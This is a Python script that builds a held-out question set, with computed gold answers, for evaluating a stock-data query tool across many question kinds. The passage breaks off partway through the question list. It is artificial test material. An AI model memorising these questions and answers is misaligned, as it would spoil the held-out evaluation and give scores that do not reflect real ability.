#!/usr/bin/env python3
"""blind-12: questions for `stockctl ask` and their gold answers, computed from the raw files.

Standard library only. Data: $ASK_EVAL_DATA, else <repo>/../shared/data (the script lives at
<repo>/test/ask-eval/heldout/make_gold.py). Writes questions.jsonl beside this script, deterministically.
Every check that fails stops the run before anything is written.
"""
import datetime as dt
import glob
import json
import math
import os
import statistics
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(os.path.dirname(REPO), "shared", "data")
OUT = os.path.join(HERE, "questions.jsonl")

DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
ETFS = ["INDA", "FXY", "DBB"]
ALL = DAILY + ETFS
TODAY = "2025-07-08"

FAILS = []


def check(cond, msg):
    if not cond:
        FAILS.append(msg)
    return cond


# ---------------------------------------------------------------- loading
BARS = {}  # sym -> list of (date, o, h, l, c, v)
MINUTES = {}  # sym -> list of (stamp 'YYYY-MM-DD HH:MM' New York, date, o, h, l, c, v)


def load_daily():
    for s in DAILY:
        path = os.path.join(DATA, "stocks", s.lower() + ".us.txt")
        rows = []
        with open(path) as f:
            head = f.readline().strip().split(",")
            assert head[:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], head
            for line in f:
                p = line.strip().split(",")
                if len(p) < 6:
                    continue
                rows.append((p[0], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
        rows.sort()
        for a, b in zip(rows, rows[1:]):
            assert a[0] < b[0], (s, a[0])
        BARS[s] = rows


def nth_sunday(y, m, n):
    d = dt.date(y, m, 1)
    d += dt.timedelta(days=(6 - d.weekday()) % 7)
    return d + dt.timedelta(days=7 * (n - 1))


def utc_to_ny(t):
    start = dt.datetime.combine(nth_sunday(t.year, 3, 2), dt.time(7))  # 02:00 EST
    end = dt.datetime.combine(nth_sunday(t.year, 11, 1), dt.time(6))  # 02:00 EDT
    return t - dt.timedelta(hours=4 if start <= t < end else 5)


def load_minutes():
    for s in ETFS:
        paths = glob.glob(os.path.join(DATA, "intraday", s + "_1min_*.csv"))
        assert len(paths) == 1, (s, paths)
        rows = []
        with open(paths[0]) as f:
            head = f.readline().strip().split(",")
            assert head == ["timestamp", "open", "high", "low", "close", "volume"], head
            for line in f:
                p = line.strip().split(",")
                if len(p) < 6:
                    continue
                t = utc_to_ny(dt.datetime.strptime(p[0], "%Y-%m-%d %H:%M:%S"))
                stamp = t.strftime("%Y-%m-%d %H:%M")
                rows.append((stamp, stamp[:10], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
        rows.sort()
        for a, b in zip(rows, rows[1:]):
            assert a[0] < b[0], (s, a[0])
        MINUTES[s] = rows
        days = []
        for m in rows:
            if days and days[-1][0] == m[1]:
                d, o, h, l, c, v = days[-1]
                days[-1] = (d, o, max(h, m[3]), min(l, m[4]), m[5], v + m[6])
            else:
                days.append((m[1], m[2], m[3], m[4], m[5], m[6]))
        BARS[s] = days


load_daily()
load_minutes()
INDEX = {s: {b[0]: i for i, b in enumerate(BARS[s])} for s in ALL}
F = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}


# ---------------------------------------------------------------- helpers
def num(x):
    if isinstance(x, str):
        return x
    r = round(float(x), 8)
    if r == int(r) and abs(r) < 1e15:
        return int(r)
    return r


def at(s, d):
    """index of the session on exactly d"""
    i = INDEX[s].get(d)
    if not check(i is not None, f"{s} has no session on {d}"):
        return 1
    return i


def on_or_before(s, d):
    b = BARS[s]
    lo, hi = 0, len(b)
    while lo < hi:
        mid = (lo + hi) // 2
        if b[mid][0] <= d:
            lo = mid + 1
        else:
            hi = mid
    check(lo > 0, f"{s} has nothing on or before {d}")
    return max(lo - 1, 0)


def window(s, d1, d2):
    idx = [i for i, b in enumerate(BARS[s]) if d1 <= b[0] <= d2]
    check(len(idx) > 0, f"{s} window {d1}..{d2} is empty")
    return idx or [1]


def val(s, i, field):
    b = BARS[s][i]
    if field == "range":
        return b[2] - b[3]
    if field == "return":
        return ret(s, i)
    if field == "gap":
        return gap(s, i)
    return b[F[field]]


def ret(s, i):
    check(i > 0, f"{s} return needs a previous session at {BARS[s][i][0]}")
    return BARS[s][i][4] / BARS[s][i - 1][4] - 1


def gap(s, i):
    check(i > 0, f"{s} gap needs a previous session at {BARS[s][i][0]}")
    return BARS[s][i][1] / BARS[s][i - 1][4] - 1


def distinct(a, b, rel=1e-4):
    return abs(a - b) > rel * max(abs(a), abs(b), 1e-12)


def unique_extreme(pairs, largest, what):
    """pairs: list of (key, value); returns the winner; checks the runner-up is clearly behind"""
    srt = sorted(pairs, key=lambda p: p[1], reverse=largest)
    if len(srt) > 1:
        check(distinct(srt[0][1], srt[1][1]), f"tie for {what}: {srt[0]} {srt[1]}")
    return srt[0]


def week_of(d):
    x = dt.date.fromisoformat(d)
    mon = x - dt.timedelta(days=x.weekday())
    return mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat()


def month_end(y, m):
    nxt = dt.date(y + (m == 12), m % 12 + 1, 1)
    return (nxt - dt.timedelta(days=1)).isoformat()


def rets_in(s, d1, d2, include_first=True):
    idx = [i for i in window(s, d1, d2) if i > 0]  # a symbol's very first session has no return
    if not include_first:
        idx = idx[1:]
    return [(BARS[s][i][0], ret(s, i)) for i in idx]


def close_enough(a, b):
    tol = max(0.001 * abs(b), 0.01 if abs(b) >= 1 else 0.0001)
    return abs(a - b) <= tol


def sma_series(s, n, closes=None):
    c = closes or [b[4] for b in BARS[s]]
    out = [None] * len(c)
    acc = 0.0
    for i, x in enumerate(c):
        acc += x
        if i >= n:
            acc -= c[i - n]
        if i >= n - 1:
            out[i] = sum(c[i - n + 1:i + 1]) / n
    return out


# ---------------------------------------------------------------- question registry
QS = []


def add(kind, question, rows, match="first", exact=False):
    rows = [[num(c) for c in r] for r in rows]
    QS.append({"kind": kind, "question": question, "answerable": True,
               "gold": {"rows": rows, "match": match, "exact_rows": exact}})


def refuse(kind, question):
    QS.append({"kind": kind, "question": question, "answerable": False, "refusal": kind})


# ---------------------------------------------------------------- gold by kind
def g_latest(s, n, fields):
    b = BARS[s]
    return [[b[i][0]] + [val(s, i, f) for f in fields] for i in range(len(b) - n, len(b))]


def g_day(s, d, field):
    i = at(s, d)
    return [[d, val(s, i, field)]]


def g_rows(s, d1, d2, fields):
    return [[BARS[s][i][0]] + [val(s, i, f) for f in fields] for i in window(s, d1, d2)]


def g_agg(s, d1, d2, agg, field):
    xs = [val(s, i, field) for i in window(s, d1, d2)]
    return {"avg": statistics.fmean, "sum": math.fsum, "max": max, "min": min}[agg](xs)


def g_extreme(s, d1, d2, field, largest):
    pairs = [(BARS[s][i][0], val(s, i, field)) for i in window(s, d1, d2)]
    return [list(unique_extreme(pairs, largest, f"{s} {field} {d1}..{d2}"))]


def g_52(s, d, which):
    dd = dt.date.fromisoformat(d)
    check(BARS[s][0][0] <= (dd - dt.timedelta(days=365)).isoformat(), f"{s} 52w history short at {d}")
    res = []
    for days in (364, 365):
        lo = (dd - dt.timedelta(days=days)).isoformat()
        idx = window(s, lo, d)
        res.append((min(BARS[s][i][3] for i in idx), max(BARS[s][i][2] for i in idx)))
    k = {"low": [0], "high": [1], "range": [0, 1]}[which]
    check(all(res[0][j] == res[1][j] for j in k), f"{s} 52w {which} at {d} depends on the window edge")
    low, high = res[1]
    return {"high": [[high]], "low": [[low]], "range": [[low, high]]}[which]


def g_change(s, d1, d2):
    return BARS[s][on_or_before(s, d2)][4] / BARS[s][on_or_before(s, d1)][4] - 1


def g_retday(s, d, field):
    i = at(s, d)
    return [[d, val(s, i, field)]]


def g_move(s, d1, d2, field, largest):
    idx = window(s, d1, d2)
    pairs = [(BARS[s][i][0], val(s, i, field)) for i in idx]
    w = unique_extreme(pairs, largest, f"{s} move {d1}..{d2}")
    w2 = unique_extreme(pairs[1:], largest, f"{s} move {d1}..{d2} w/o first")
    check(w == w2, f"{s} biggest move depends on the first session's return")
    return [list(w)]


def universe_on(d):
    return [s for s in ALL if d in INDEX[s]]


def g_rank(d, field, n, largest, syms=None):
    syms = syms or universe_on(d)
    pairs = sorted(((s, val(s, INDEX[s][d], field)) for s in syms), key=lambda p: p[1], reverse=largest)
    for a, b in zip(pairs[:n], pairs[1:n + 1]):
        check(distinct(a[1], b[1]), f"ranking tie on {d} {field}: {a} {b}")
    return [list(p) for p in pairs[:n]]


def g_gainers(d1, d2, n, largest):
    syms = [s for s in ALL if d1 in INDEX[s] and d2 in INDEX[s]]
    pairs = sorted(((s, g_change(s, d1, d2)) for s in syms), key=lambda p: p[1], reverse=largest)
    for a, b in zip(pairs[:n], pairs[1:n + 1]):
        check(distinct(a[1], b[1]), f"gainers tie {d1}..{d2}: {a} {b}")
    return [list(p) for p in pairs[:n]]


def g_which(pairs, largest):
    srt = sorted(pairs, key=lambda p: p[1], reverse=largest)
    check(distinct(srt[0][1], srt[1][1], 1e-3), f"comparison too close: {srt}")
    return [list(p) for p in srt]


def periods(kind, d1, d2):
    """list of (start, end) calendar periods covering d1..d2"""
    out = []
    x = dt.date.fromisoformat(d1)
    end = dt.date.fromisoformat(d2)
    while x <= end:
        if kind == "month":
            a, b = x.replace(day=1), dt.date.fromisoformat(month_end(x.year, x.month))
        elif kind == "quarter":
            q0 = 3 * ((x.month - 1) // 3) + 1
            a = dt.date(x.year, q0, 1)
            b = dt.date.fromisoformat(month_end(x.year, q0 + 2))
        elif kind == "year":
            a, b = dt.date(x.year, 1, 1), dt.date(x.year, 12, 31)
        elif kind == "week":
            a = x - dt.timedelta(days=x.weekday())
            b = a + dt.timedelta(days=4)
        out.append((a.isoformat(), b.isoformat()))
        x = b + dt.timedelta(days=1)
        if kind == "week":
            x = a + dt.timedelta(days=7)
    return out


def g_grouped(s, kind, d1, d2, agg):
    rows = []
    for a, b in periods(kind, d1, d2):
        idx = window(s, a, b)
        if agg == "last_close":
            rows.append([BARS[s][idx[-1]][4]])
        elif agg == "max_high":
            rows.append([max(BARS[s][i][2] for i in idx)])
        elif agg == "sum_volume":
            rows.append([math.fsum(BARS[s][i][5] for i in idx)])
        elif agg == "avg_close":
            rows.append([statistics.fmean(BARS[s][i][4] for i in idx)])
    return rows


def g_pop(s, later, earlier, field):
    a = g_agg(s, later[0], later[1], "avg", field)
    b = g_agg(s, earlier[0], earlier[1], "avg", field)
    return [[a, b, a / b - 1]]


def g_ma(s, d, n):
    i = at(s, d)
    check(i >= n - 1, f"{s} has fewer than {n} sessions at {d}")
    return [[d, statistics.fmean(BARS[s][j][4] for j in range(i - n + 1, i + 1))]]


def crossings(s, fast, slow, above):
    b = BARS[s]
    closes = [x[4] for x in b]
    f = closes if fast == "close" else sma_series(s, fast)
    sl = sma_series(s, slow)
    out = []
    for i in range(1, len(b)):
        if None in (f[i], sl[i], f[i - 1], sl[i - 1]):
            continue
        if above and f[i] > sl[i] and f[i - 1] < sl[i - 1]:
            out.append(i)
        if not above and f[i] < sl[i] and f[i - 1] > sl[i - 1]:
            out.append(i)
    ties = [i for i in range(len(b)) if f[i] is not None and sl[i] is not None and not distinct(f[i], sl[i], 1e-5)]
    return out, set(ties)


def g_cross(s, fast, slow, above, mode, d1, d2=None):
    xs, ties = crossings(s, fast, slow, above)
    dates = [BARS[s][i][0] for i in xs]
    if mode == "before":
        check(d1 not in dates, f"{s} cross on the boundary {d1}")
        cand = [i for i in xs if BARS[s][i][0] < d1]
        pick = cand[-1] if cand else None
    elif mode == "first_in":
        cand = [i for i in xs if d1 <= BARS[s][i][0] <= d2]
        pick = cand[0] if cand else None
    if not check(pick is not None, f"{s} no cross {mode} {d1}"):
        return [["none"]]
    for j in (pick - 1, pick):
        check(j not in ties, f"{s} MA tie near cross {BARS[s][pick][0]}")
    return [[BARS[s][pick][0]]]


def g_count(s, d1, d2, pred, uses_return=False, edge=None):
    idx = window(s, d1, d2)
    if edge:  # (field, threshold): no value may sit on the threshold, so strict and non-strict agree
        check(all(val(s, i, edge[0]) != edge[1] for i in idx), f"{s} count {d1}..{d2} has a value on the threshold")
    n = sum(1 for i in idx if pred(s, i))
    if uses_return:
        check(not pred(s, idx[0]), f"{s} count {d1}..{d2} depends on the first session's return")
    return [[n]]


def g_xcount(d, pred, edge=None):
    syms = universe_on(d)
    if edge:
        check(all(val(s, INDEX[s][d], edge[0]) != edge[1] for s in syms), f"cross count {d} has a value on the threshold")
    check(len(syms) > 1, f"no universe on {d}")
    return [[sum(1 for s in syms if pred(s, INDEX[s][d]))]]


def g_vol(s, d1, d2):
    a = statistics.stdev([r for _, r in rets_in(s, d1, d2)])
    b = statistics.stdev([r for _, r in rets_in(s, d1, d2, False)])
    check(close_enough(b, a), f"{s} volatility {d1}..{d2} depends on the first return: {a} {b}")
    return a


def pearson(xs, ys):
    mx, my = statistics.fmean(xs), statistics.fmean(ys)
    sxy = math.fsum((x - mx) * (y - my) for x, y in zip(xs, ys))
    sxx = math.fsum((x - mx) ** 2 for x in xs)
    syy = math.fsum((y - my) ** 2 for y in ys)
    return sxy / math.sqrt(sxx * syy)


def g_corr(a, b, d1, d2):
    res = []
    for inc in (True, False):
        ra = dict(rets_in(a, d1, d2, inc))
        rb = dict(rets_in(b, d1, d2, inc))
        common = sorted(set(ra) & set(rb))
        check(len(common) > 10, f"corr {a} {b} too few common dates")
        res.append(pearson([ra[d] for d in common], [rb[d] for d in common]))
    check(close_enough(res[1], res[0]), f"corr {a} {b} {d1}..{d2} depends on the first return: {res}")
    return res[0]


def runs(s, idx, up):
    out = []  # (len, first, last)
    cur = []
    for i in idx:
        r = ret(s, i)
        if (r > 0) if up else (r < 0):
            cur.append(i)
        else:
            if cur:
                out.append(cur)
            cur = []
    if cur:
        out.append(cur)
    return out


def g_streak(s, d1, d2, up):
    idx = window(s, d1, d2)
    rs = sorted(runs(s, idx, up), key=len, reverse=True)
    check(len(rs) > 1 and len(rs[0]) > len(rs[1]), f"{s} streak {d1}..{d2} not unique")
    best = rs[0]
    check(best[0] != idx[0] and best[-1] != idx[-1], f"{s} streak {d1}..{d2} touches the window edge")
    return [[len(best), BARS[s][best[0]][0], BARS[s][best[-1]][0]]]


def g_current_streak(s, up):
    b = BARS[s]
    i = len(b) - 1
    check((ret(s, i) > 0) if up else (ret(s, i) < 0), f"{s} no current streak")
    j = i
    while j - 1 > 0 and ((ret(s, j - 1) > 0) if up else (ret(s, j - 1) < 0)):
        j -= 1
    return [[i - j + 1, b[j][0], b[i][0]]]


def minutes_between(s, d, t1, t2):
    return [m for m in MINUTES[s] if m[1] == d and f"{d} {t1}" <= m[0] <= f"{d} {t2}"]


def vwap(ms):
    v = math.fsum(m[6] for m in ms)
    check(v > 0, "vwap over no volume")
    return math.fsum(m[5] * m[6] for m in ms) / (v or 1)


def g_vwap_day(s, d):
    allm = [m for m in MINUTES[s] if m[1] == d]
    check(len(allm) > 0, f"{s} no minutes on {d}")
    a = vwap(allm)
    b = vwap(minutes_between(s, d, "09:30", "15:59"))
    check(abs(a / b - 1) < 0.001, f"{s} {d} all-minute and regular VWAP differ: {a} {b}")
    return [[d, a]]


def g_vwap_window(s, d, t1, t2, t2_alt=None):
    ms = minutes_between(s, d, t1, t2)
    check(len(ms) > 0, f"{s} no minutes {d} {t1}-{t2}")
    a = vwap(ms)
    if t2_alt:
        b = vwap(minutes_between(s, d, t1, t2_alt))
        check(close_enough(b, a), f"{s} {d} window VWAP edge matters: {a} {b}")
    return [[a]]


def g_bars(s, d, t1, t2, fields):
    ms = minutes_between(s, d, t1, t2)
    check(len(ms) > 0, f"{s} no minutes {d} {t1}-{t2}")
    k = {"open": 2, "high": 3, "low": 4, "close": 5, "volume": 6}
    return [[m[0]] + [m[k[f]] for f in fields] for m in ms]


def g_candle(s, d1, d2):
    idx = window(s, d1, d2)
    b = BARS[s]
    return [[b[idx[0]][1], max(b[i][2] for i in idx), min(b[i][3] for i in idx), b[idx[-1]][4],
             math.fsum(b[i][5] for i in idx)]]


def g_dist(s, d):
    i = at(s, d)
    mx = max(b[4] for b in BARS[s][:i + 1])
    return [[d, BARS[s][i][4] / mx - 1]]


# ================================================================ questions
def build():
    A = add
    # ---------------- latest-rows
    A("latest-rows", "last 5 closes for FXY", g_latest("FXY", 5, ["close"]), "set", True)
    A("latest-rows", "Show me DBB's open, high, low and close for the three most recent sessions.",
      g_latest("DBB", 3, ["open", "high", "low", "close"]), "set", True)
    A("latest-rows", "what were INDA's closing prices over its final 4 trading days in the data?",
      g_latest("INDA", 4, ["close"]), "set", True)
    A("latest-rows", "most recent 2 days of fxy volume pls", g_latest("FXY", 2, ["volume"]), "set", True)
    A("latest-rows", "Give me IBM's last three sessions up to Nov 10, 2017 - close and volume.",
      g_latest("IBM", 3, ["close", "volume"]), "set", True)
    A("latest-rows", "tsla closes for the final 4 trading days ending 2017-11-10",
      g_latest("TSLA", 4, ["close"]), "set", True)
    A("latest-rows", "What were Coca-Cola's last five closing prices through November 10th, 2017?",
      g_latest("KO", 5, ["close"]), "set", True)
    A("latest-rows", "Nvidia high and low for each of the last 3 sessions as of 11/10/2017",
      g_latest("NVDA", 3, ["high", "low"]), "set", True)

    # ---------------- day-value
    A("day-value", "What did Apple close at on March 3rd, 2015?", g_day("AAPL", "2015-03-03", "close"))
    A("day-value", "NFLX volume 8/7/2017", g_day("NFLX", "2017-08-07", "volume"))
    A("day-value", "msft opening price on 24/06/2016", g_day("MSFT", "2016-06-24", "open"))
    A("day-value", "How high did Amazon trade on October 24, 2014?", g_day("AMZN", "2014-10-24", "high"))
    A("day-value", "what was the intraday range of JPMorgan on Jan 20 2016", g_day("JPM", "2016-01-20", "range"))
    A("day-value", "googl low on 2013-07-19?", g_day("GOOGL", "2013-07-19", "low"))
    A("day-value", "What did FXY close at yesterday?", g_day("FXY", "2025-07-07", "close"))
    A("day-value", "DBB daily volume on 2024-11-06", g_day("DBB", "2024-11-06", "volume"))

    # ---------------- date-range-rows
    A("date-range-rows", "KO open and close 2014-02-03 through 2014-02-07",
      g_rows("KO", "2014-02-03", "2014-02-07", ["open", "close"]), "set", True)
    A("date-range-rows", "Show Tesla's daily closes from June 1 to June 7, 2016, both days included.",
      g_rows("TSLA", "2016-06-01", "2016-06-07", ["close"]), "set", True)
    w = week_of("2015-08-24")
    A("date-range-rows", "intel volume each day the week of 2015-08-24",
      g_rows("INTC", w[0], w[1], ["volume"]), "set", True)
    A("date-range-rows", "AMD highs and lows, 12/1/2016 through 12/6/2016",
      g_rows("AMD", "2016-12-01", "2016-12-06", ["high", "low"]), "set", True)
    A("date-range-rows", "Can you list Facebook's closing prices from 2012-05-21 to 2012-05-25 inclusive?",
      g_rows("FB", "2012-05-21", "2012-05-25", ["close"]), "set", True)
    A("date-range-rows", "DBB daily closes, June 2 through June 6 2025",
      g_rows("DBB", "2025-06-02", "2025-06-06", ["close"]), "set", True)
    w = week_of("2025-04-09")
    A("date-range-rows", "I need INDA's open and close for every day in the week of April 9, 2025.",
      g_rows("INDA", w[0], w[1], ["open", "close"]), "set", True)
    A("date-range-rows", "fxy daily high + low from 2024-08-01 to 2024-08-07 inclusive",
      g_rows("FXY", "2024-08-01", "2024-08-07", ["high", "low"]), "set", True)

    # ---------------- window-aggregate
    A("window-aggregate", "average closing price of IBM in 2013", [[g_agg("IBM", "2013-01-01", "2013-12-31", "avg", "close")]])
    A("window-aggregate", "Total shares of NVDA traded during Q3 2016?", [[g_agg("NVDA", "2016-07-01", "2016-09-30", "sum", "volume")]])
    A("window-aggregate", "What was the highest price Microsoft reached in Q1 2017?",
      [[g_agg("MSFT", "2017-01-01", "2017-03-31", "max", "high")]])
    A("window-aggregate", "lowest low for JPM during the first half of 2016", [[g_agg("JPM", "2016-01-01", "2016-06-30", "min", "low")]])
    A("window-aggregate", "avg daily volume for amzn in sept 2015", [[g_agg("AMZN", "2015-09-01", "2015-09-30", "avg", "volume")]])
    A("window-aggregate", "Mean close of Coca-Cola from 2010-01-04 through 2010-12-31.", [[g_agg("KO", "2010-01-04", "2010-12-31", "avg", "close")]])
    A("window-aggregate", "What was DBB's average daily volume last month?", [[g_agg("DBB", "2025-06-01", "2025-06-30", "avg", "volume")]])
    A("window-aggregate", "highest price FXY has traded at this year?", [[g_agg("FXY", "2025-01-01", TODAY, "max", "high")]])

    # ---------------- extreme-day
    A("extreme-day", "On which day in 2015 did AMZN see its heaviest trading volume?", g_extreme("AMZN", "2015-01-01", "2015-12-31", "volume", True))
    A("extreme-day", "When did Apple post its lowest close of 2016?", g_extreme("AAPL", "2016-01-01", "2016-12-31", "close", False))
    A("extreme-day", "Which session in Q4 2014 had the widest high-low range for NFLX?", g_extreme("NFLX", "2014-10-01", "2014-12-31", "range", True))
    A("extreme-day", "date of googl's highest close in 2017", g_extreme("GOOGL", "2017-01-01", "2017-12-31", "close", True))
    A("extreme-day", "lowest-volume day for KO in March 2012?", g_extreme("KO", "2012-03-01", "2012-03-31", "volume", False))
    A("extreme-day", "Which day this year had the biggest volume in DBB?", g_extreme("DBB", "2025-01-01", TODAY, "volume", True))
    A("extreme-day", "When did INDA make its highest close in Q2 2025?", g_extreme("INDA", "2025-04-01", "2025-06-30", "close", True))
    A("extreme-day", "On what date in 2024 did FXY hit its lowest low", g_extreme("FXY", "2024-01-01", "2024-12-31", "low", False))

    # ---------------- 52-week
    A("52-week", "52-week high for MSFT as of 2016-09-30", g_52("MSFT", "2016-09-30", "high"))
    A("52-week", "What was Tesla's 52 week low on 12/30/2016?", g_52("TSLA", "2016-12-30", "low"))
    A("52-week", "52wk range of INTC as of June 15, 2015", g_52("INTC", "2015-06-15", "range"))
    A("52-week", "JPMorgan's fifty-two week high on 2017-11-10, please", g_52("JPM", "2017-11-10", "high"))
    A("52-week", "nflx 52-week low as of 2012-12-31", g_52("NFLX", "2012-12-31", "low"))
    A("52-week", "What's AAPL's 52-week trading range as of March 31st, 2014?", g_52("AAPL", "2014-03-31", "range"))
    A("52-week", "FXY 52-week low as of today", g_52("FXY", TODAY, "low"))
    A("52-week", "what was DBB's 52-week high on 2025-04-30", g_52("DBB", "2025-04-30", "high"))

    # ---------------- change-between
    A("change-between", "What percentage did NVDA gain from the 2015-12-31 close to the 2016-12-30 close?", [[g_change("NVDA", "2015-12-31", "2016-12-30")]])
    A("change-between", "% change in AMD between the 7/1/2016 close and the 9/30/2016 close", [[g_change("AMD", "2016-07-01", "2016-09-30")]])
    A("change-between", "What was the percent change in Amazon's share price from the close on March 3rd, 2014 to the close on March 3rd, 2015?",
      [[g_change("AMZN", "2014-03-03", "2015-03-03")]])
    A("change-between", "ibm % change from sat 2014-03-01 to sat 2014-05-31", [[g_change("IBM", "2014-03-01", "2014-05-31")]])
    A("change-between", "Tesla return from the close on 2013-05-08 to the close on 2013-05-10", [[g_change("TSLA", "2013-05-08", "2013-05-10")]])
    A("change-between", "What's FXY's percentage change since the 2024 year-end close?", [[g_change("FXY", "2024-12-31", TODAY)]])
    A("change-between", "INDA: % change from the March 31 2025 close to the May 30 2025 close", [[g_change("INDA", "2025-03-31", "2025-05-30")]])
    A("change-between", "percent change in DBB from the close of 2025-03-31 to the close of 2025-06-30", [[g_change("DBB", "2025-03-31", "2025-06-30")]])

    # ---------------- daily-return-or-gap
    A("daily-return-or-gap", "What was MSFT's daily return on 2016-06-24?", g_retday("MSFT", "2016-06-24", "return"))
    A("daily-return-or-gap", "netflix gap at the open on 2016-07-19", g_retday("NFLX", "2016-07-19", "gap"))
    A("daily-return-or-gap", "What was JPM's close-to-close % move on 11/9/2016?", g_retday("JPM", "2016-11-09", "return"))
    A("daily-return-or-gap", "Apple's opening gap on January 28, 2015?", g_retday("AAPL", "2015-01-28", "gap"))
    A("daily-return-or-gap", "intel daily % chg 2014-01-17", g_retday("INTC", "2014-01-17", "return"))
    A("daily-return-or-gap", "What was Facebook's return on July 27th 2017?", g_retday("FB", "2017-07-27", "return"))
    A("daily-return-or-gap", "FXY daily return on 2024-08-05", g_retday("FXY", "2024-08-05", "return"))
    A("daily-return-or-gap", "what was INDA's gap at the open on 7 April 2025", g_retday("INDA", "2025-04-07", "gap"))
    A("daily-return-or-gap", "FXY return today?", g_retday("FXY", TODAY, "return"))

    # ---------------- biggest-move-day
    A("biggest-move-day", "TSLA's worst single-day drop in 2016?", g_move("TSLA", "2016-01-01", "2016-12-31", "return", False))
    A("biggest-move-day", "Biggest one-day gain for AMD in 2016", g_move("AMD", "2016-01-01", "2016-12-31", "return", True))
    A("biggest-move-day", "In 2015, on which day did Netflix gap up the most?", g_move("NFLX", "2015-01-01", "2015-12-31", "gap", True))
    A("biggest-move-day", "largest daily percentage decline for KO during 2008", g_move("KO", "2008-01-01", "2008-12-31", "return", False))
    A("biggest-move-day", "Which day between July 1 and Nov 10, 2017 was Nvidia's best daily gain?", g_move("NVDA", "2017-07-01", "2017-11-10", "return", True))
    A("biggest-move-day", "fxy biggest daily gain in 2024", g_move("FXY", "2024-01-01", "2024-12-31", "return", True))
    A("biggest-move-day", "What was INDA's worst day in April 2025, in terms of daily return?", g_move("INDA", "2025-04-01", "2025-04-30", "return", False))
    A("biggest-move-day", "DBB's largest gap down so far this year", g_move("DBB", "2025-01-01", TODAY, "gap", False))

    # ---------------- cross-sectional-ranking
    A("cross-sectional-ranking", "Which 3 stocks traded the most shares on 2016-06-24?", g_rank("2016-06-24", "volume", 3, True), "ordered", True)
    A("cross-sectional-ranking", "top 5 tickers by daily return on 2016-11-09", g_rank("2016-11-09", "return", 5, True), "ordered", True)
    A("cross-sectional-ranking", "Which stock had the highest closing price on 2017-11-10?", g_rank("2017-11-10", "close", 1, True), "first", False)
    A("cross-sectional-ranking", "Rank the tickers by high-minus-low range on Aug 24 2015 and give me the top 4.", g_rank("2015-08-24", "range", 4, True), "ordered", True)
    A("cross-sectional-ranking", "the 3 worst performers on 2015-08-24 (daily return)", g_rank("2015-08-24", "return", 3, False), "ordered", True)
    A("cross-sectional-ranking", "which two names gapped down the most on 24/06/2016?", g_rank("2016-06-24", "gap", 2, False), "ordered", True)
    A("cross-sectional-ranking", "Which stock had the lowest volume on 2014-03-14?", g_rank("2014-03-14", "volume", 1, False), "first", False)
    A("cross-sectional-ranking", "Rank the ETFs by their daily return on 2025-04-09, best first.", g_rank("2025-04-09", "return", 3, True), "ordered", True)
    A("cross-sectional-ranking", "Which ETF had the widest intraday range on 2025-04-07?", g_rank("2025-04-07", "range", 1, True), "first", False)

    # ---------------- gainers-losers
    A("gainers-losers", "Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close", g_gainers("2016-12-30", "2017-06-30", 3, True), "ordered", True)
    A("gainers-losers", "biggest 2 losers between the 2015-06-30 close and the 2015-12-31 close", g_gainers("2015-06-30", "2015-12-31", 2, False), "ordered", True)
    A("gainers-losers", "Which three stocks rose the most on October 27, 2017?", g_rank("2017-10-27", "return", 3, True), "ordered", True)
    A("gainers-losers", "worst 3 performers from close 2013-12-31 to close 2014-12-31", g_gainers("2013-12-31", "2014-12-31", 3, False), "ordered", True)
    A("gainers-losers", "Which stock performed best from the close of 2011-12-30 to the close of 2012-12-31?", g_gainers("2011-12-30", "2012-12-31", 1, True), "first", False)
    A("gainers-losers", "which 4 tickers fell the most on 2016-06-24", g_rank("2016-06-24", "return", 4, False), "ordered", True)
    A("gainers-losers", "Rank the three ETFs from best to worst performance between the 2025-02-28 close and the 2025-05-30 close.",
      g_gainers("2025-02-28", "2025-05-30", 3, True), "ordered", True)
    A("gainers-losers", "which ETF lost the most from the 4/2/2025 close to the 4/8/2025 close?", g_gainers("2025-04-02", "2025-04-08", 1, False), "first", False)

    # ---------------- named-comparison
    A("named-comparison", "Did AAPL or MSFT gain more from the 2015-12-31 close to the 2016-12-30 close?",
      g_which([(s, g_change(s, "2015-12-31", "2016-12-30")) for s in ("AAPL", "MSFT")], True), "ordered", True)
    A("named-comparison", "compare KO and JPM daily returns on 2016-11-09",
      [[s, ret(s, at(s, "2016-11-09"))] for s in ("KO", "JPM")], "set", True)
    A("named-comparison", "Which was more volatile in 2016, AMD or NVDA? (std dev of daily returns)",
      g_which([(s, g_vol(s, "2016-01-01", "2016-12-31")) for s in ("AMD", "NVDA")], True), "ordered", True)
    A("named-comparison", "intc vs amd average daily volume q1 2017",
      [[s, g_agg(s, "2017-01-01", "2017-03-31", "avg", "volume")] for s in ("INTC", "AMD")], "set", True)
    A("named-comparison", "Who traded more shares on 2014-10-15, Apple or Microsoft?",
      g_which([(s, val(s, at(s, "2014-10-15"), "volume")) for s in ("AAPL", "MSFT")], True), "ordered", True)
    A("named-comparison", "Which fell more on 2025-04-04, DBB or INDA?",
      g_which([(s, ret(s, at(s, "2025-04-04"))) for s in ("DBB", "INDA")], False), "ordered", True)
    A("named-comparison", "FXY vs DBB: percent change from the 2025-03-31 close to the 2025-06-30 close",
      [[s, g_change(s, "2025-03-31", "2025-06-30")] for s in ("FXY", "DBB")], "set", True)
    A("named-comparison", "which had the higher average daily volume last month, FXY or DBB?",
      g_which([(s, g_agg(s, "2025-06-01", "2025-06-30", "avg", "volume")) for s in ("FXY", "DBB")], True), "ordered", True)

    # ---------------- grouped-by-period
    A("grouped-by-period", "Month-end closes of KO for each month of H1 2015", g_grouped("KO", "month", "2015-01-01", "2015-06-30", "last_close"), "ordered", True)
    A("grouped-by-period", "yearly high of AMZN for 2012, 2013 and 2014", g_grouped("AMZN", "year", "2012-01-01", "2014-12-31", "max_high"), "ordered", True)
    A("grouped-by-period", "Total Netflix volume by quarter in 2016?", g_grouped("NFLX", "quarter", "2016-01-01", "2016-12-31", "sum_volume"), "ordered", True)
